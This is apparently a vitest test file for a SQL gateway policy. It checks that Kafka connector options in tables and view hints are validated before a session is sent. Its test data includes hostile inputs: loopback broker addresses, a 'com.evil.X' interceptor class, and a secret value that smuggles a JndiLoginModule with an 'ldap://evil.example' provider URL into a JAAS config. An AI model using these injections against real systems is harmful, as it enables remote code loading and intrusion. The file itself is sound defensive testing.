import { defaultGatePolicy } from '@headgate/sql'
import { describe, expect, it } from 'vitest'
import { catalogOf, kafkaConnection, sessionOf, tableOf, viewOf } from './fixtures.ts'
import { renderSession } from './render-session.ts'

const kafka = { connector: 'kafka', topic: 't', 'value.format': 'json' }
const on = (servers: string) => tableOf('default', 't', { ...kafka, 'properties.bootstrap.servers': servers })
const strict = { ...defaultGatePolicy, filesystemRoot: 'file:///files', addresses: 'network' as const }
const open = { ...strict, addresses: 'anywhere' as const }

describe('what is about to be sent', () => {
  it('is held against the policy of today: a table of another day is refused where it is used, and can be dropped', () => {
    const catalog = catalogOf([on('localhost:9092')])
    expect(renderSession(sessionOf('SELECT * FROM t', catalog, { policy: open }))).toMatchObject({ ok: true, value: { addresses: [{ host: 'localhost', port: 9092 }] } })
    expect(renderSession(sessionOf('SELECT * FROM t', catalog, { policy: strict }))).toMatchObject({ ok: false, reason: 'rejected', message: expect.stringContaining('loopback') })
    expect(renderSession(sessionOf('DROP TABLE t', catalog, { policy: strict, purpose: 'define' })).ok).toBe(true)
  })

  it('is looked at in the queries of views too', () => {
    const hint = (options: string) => viewOf('default', 'v', `SELECT id FROM \`env-abc123\`.\`default\`.\`t\` /*+ OPTIONS(${options}) */`)
    const session = (options: string, properties = {}) => renderSession(sessionOf('SELECT * FROM v', catalogOf([on('broker:9092'), hint(options)]), { policy: strict, properties }))
    expect(session("'scan.startup.mode' = 'latest-offset'")).toMatchObject({ ok: true, value: { addresses: [{ host: 'broker', port: 9092 }] } })
    expect(session("'properties.bootstrap.servers' = 'other:9092'")).toMatchObject({ ok: true, value: { addresses: [{ host: 'broker', port: 9092 }, { host: 'other', port: 9092 }] } })
    expect(session("'properties.bootstrap.servers' = '127.0.0.1:9092'")).toMatchObject({ ok: false, message: expect.stringContaining("View 'default.v'") })
    expect(session("'properties.interceptor.classes' = 'com.evil.X'")).toMatchObject({ ok: false, message: expect.stringContaining('class') })
  })

  it('is looked at with the secrets in it: one cannot bring a second login module into the hint of a view', () => {
    const login = "'properties.sasl.jaas.config' = 'org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"{{sql.secrets.p}}\";'"
    const view = viewOf('default', 'v', `SELECT id FROM \`env-abc123\`.\`default\`.\`t\` /*+ OPTIONS(${login}) */`)
    const session = (secret: string) => renderSession(sessionOf('SELECT * FROM v', catalogOf([on('broker:9092'), view]), { policy: strict, properties: { 'sql.secrets.p': secret } }))
    expect(session('hunter2').ok).toBe(true)
    const refused = session('x"; com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example')
    expect(refused).toMatchObject({ ok: false, reason: 'rejected', message: expect.stringContaining('PlainLoginModule') })
    expect(JSON.stringify(refused)).not.toContain('evil.example')
  })

  it('is looked at with the connection in it', () => {
    const table = tableOf('default', 't', { ...kafka, connection: 'kk' })
    const session = (endpoint: string) => renderSession(sessionOf('SELECT * FROM t', catalogOf([table]), { policy: strict, connections: [{ ...kafkaConnection, endpoint }] }))
    expect(session('SASL_SSL://broker:9092')).toMatchObject({ ok: true, value: { addresses: [{ host: 'broker', port: 9092 }] } })
    expect(session('SASL_SSL://[::ffff:127.0.0.1]:9092').ok).toBe(false)
  })
})
